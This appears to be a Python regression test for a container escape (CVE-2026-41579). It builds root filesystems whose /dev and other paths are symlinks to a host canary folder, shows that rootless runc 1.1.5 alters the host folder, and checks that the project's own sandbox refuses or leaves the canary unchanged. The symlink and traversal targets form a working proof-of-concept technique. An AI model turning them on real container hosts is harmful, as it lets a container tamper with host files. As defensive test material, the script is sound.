"""A7 (CVE-2026-41579): the /dev of a root is a link to a folder of the host, in which the set-up deletes and makes files."""
from attack import *

canary = Canary()
root = f"{HOME}/bundle/rootfs"


def make_root(name, target):
    shutil.rmtree(f"{HOME}/bundle", ignore_errors=True)
    busybox_root(root)
    path = f"{root}/{name}"
    if os.path.isdir(path):
        shutil.rmtree(path)
    os.symlink(target, path)


# runc 1.1.5 as it is shipped with Debian 12, without a privilege.
if WAY == "user":
    make_root("dev", canary.folder)
    run("runc", "spec", "--rootless", "--bundle", f"{HOME}/bundle")
    with open(f"{HOME}/bundle/config.json") as file:
        config = json.load(file)
    config["process"]["terminal"] = False
    config["process"]["args"] = ["/bin/true"]
    config["mounts"] = [mount for mount in config["mounts"] if not mount["destination"].startswith(("/dev", "/sys"))]
    config["linux"].pop("resources", None)
    config["root"]["readonly"] = False
    with open(f"{HOME}/bundle/config.json", "w") as file:
        json.dump(config, file)
    done = run("runc", "--root", f"{HOME}/runc", "run", "--bundle", f"{HOME}/bundle", "victim")
    control(canary.changed(), f"runc: {done}")
canary.renew()

for name in ("dev", "proc", "sys", "tmp", "run", "etc", "dev/pts", "dev/shm", "dev/ptmx"):
    for target in (canary.folder, "../../../" + canary.folder[1:], "/proc/1/root" + canary.folder, "/"):
        for readonly in ("true", "false"):
            make_root(name, target)
            done = with_profile(f'[root]\nsource = "{root}"\nreadonly = {readonly}\n', "/bin/sh", "-c", "echo x >/dev/null; ls /dev >/dev/null; echo it runs")
            if done.returncode == 0:
                equal((done.stdout, done.stderr), ("it runs\n", ""), f"/{name} → {target}")
            else:
                refused(done)
            canary.unchanged(f"/{name} → {target}")
